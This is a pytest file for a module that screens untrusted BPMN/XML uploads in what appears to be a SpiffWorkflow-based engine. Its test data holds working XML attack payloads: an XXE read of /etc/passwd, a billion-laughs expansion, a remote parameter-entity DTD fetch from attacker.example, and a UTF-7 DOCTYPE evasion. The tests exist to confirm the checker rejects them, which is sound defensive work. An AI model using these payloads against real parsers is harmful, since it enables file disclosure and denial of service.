"""Hardened intake of untrusted BPMN/DMN/XML uploads."""
import codecs

import pytest
from SpiffWorkflow.spiff.parser import VALIDATOR, SpiffBpmnParser

from app.engine.xmlsafe import UnsafeXmlError, check_untrusted_xml, parse_untrusted_xml

BPMN = """<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    id="defs" targetNamespace="http://bpmn.io/schema/bpmn">
  <!-- 立案审批 -->
  <bpmn:process id="proc" name="立案" isExecutable="true">
    <bpmn:startEvent id="start"/>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end"/>
    <bpmn:endEvent id="end"/>
  </bpmn:process>
</bpmn:definitions>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<data>&send;</data>"""


def _refused(data, **kwargs) -> UnsafeXmlError:
    with pytest.raises(UnsafeXmlError) as info:
        check_untrusted_xml(data, filename="case.bpmn", **kwargs)
    assert info.value.filename == "case.bpmn"
    assert str(info.value) == info.value.message
    return info.value


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, PARAMETER_ENTITIES])
def test_entity_attacks_are_refused(payload):
    error = _refused(payload)
    assert "DOCTYPE" in error.message
    assert error.line == 2


def test_doctype_alone_is_refused_in_any_case():
    error = _refused(b'<?xml version="1.0"?>\n\n<!doctype html>\n<root/>')
    assert error.line == 3


def test_entity_declaration_without_doctype_is_refused():
    assert "ENTITY" in _refused(b"<root>\n<!ENTITY x 'y'></root>").message


def test_doctype_hidden_by_a_declared_encoding_is_refused():
    # UTF-7 would show "<!DOCTYPE" as "+ADwAIQ-DOCTYPE" to a byte scan.
    data = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'
    assert "UTF-7" in _refused(data).message


@pytest.mark.parametrize("bom, codec", [
    (codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be"),
    (codecs.BOM_UTF32_LE, "utf-32-le"), (codecs.BOM_UTF32_BE, "utf-32-be"),
])
def test_wide_unicode_is_refused(bom, codec):
    data = bom + '<?xml version="1.0"?><!DOCTYPE x><x/>'.encode(codec)
    error = _refused(data)
    assert "UTF-8" in error.message and codec[:6].upper() in error.message


def test_utf16_without_bom_is_refused():
    assert "空字节" in _refused("<x>案件</x>".encode("utf-16-le")).message


def test_oversized_file_is_refused():
    data = b"<a>" + b"x" * 2048 + b"</a>"
    assert "文件过大" in _refused(data, max_bytes=1024).message
    check_untrusted_xml(data, max_bytes=4096)


def test_default_limit_is_two_megabytes():
    data = b"<a>" + b"x" * (2 * 1024 * 1024) + b"</a>"
    assert "2.0 MB" in _refused(data).message


@pytest.mark.parametrize("data", [b"", b"  \n\t "])
def test_empty_file_is_refused(data):
    assert _refused(data).message == "文件为空"


def test_invalid_utf8_reports_the_line():
    error = _refused(b"<a>\n<b>\xff\xfe</b></a>")
    assert "UTF-8" in error.message
    assert error.line == 2


def test_malformed_xml_reports_the_line():
    error = _refused(b"<a>\n  <b>\n  </c>\n</a>")
    assert error.line == 3
    assert error.message.startswith("XML 格式错误，第 3 行：")


def test_bytes_are_required():
    with pytest.raises(TypeError):
        check_untrusted_xml(BPMN)


def test_valid_bpmn_is_accepted_and_feeds_the_spiff_parser():
    data = BPMN.encode("utf-8")
    check_untrusted_xml(data, "ok.bpmn")
    root = parse_untrusted_xml(data, "ok.bpmn")
    assert root.tag == "{http://www.omg.org/spec/BPMN/20100524/MODEL}definitions"
    parser = SpiffBpmnParser(validator=VALIDATOR)
    parser.add_bpmn_xml(root, filename="ok.bpmn")
    assert parser.get_spec("proc").name == "proc"


def test_utf8_bom_and_declared_gbk_are_accepted():
    assert parse_untrusted_xml(codecs.BOM_UTF8 + BPMN.encode("utf-8")).get("id") == "defs"
    gbk = BPMN.replace('encoding="UTF-8"', 'encoding="GBK"').encode("gbk")
    root = parse_untrusted_xml(gbk)
    assert root.find("{*}process").get("name") == "立案"


def test_bytearray_input_is_accepted():
    assert parse_untrusted_xml(bytearray(b"<a/>")).tag == "a"
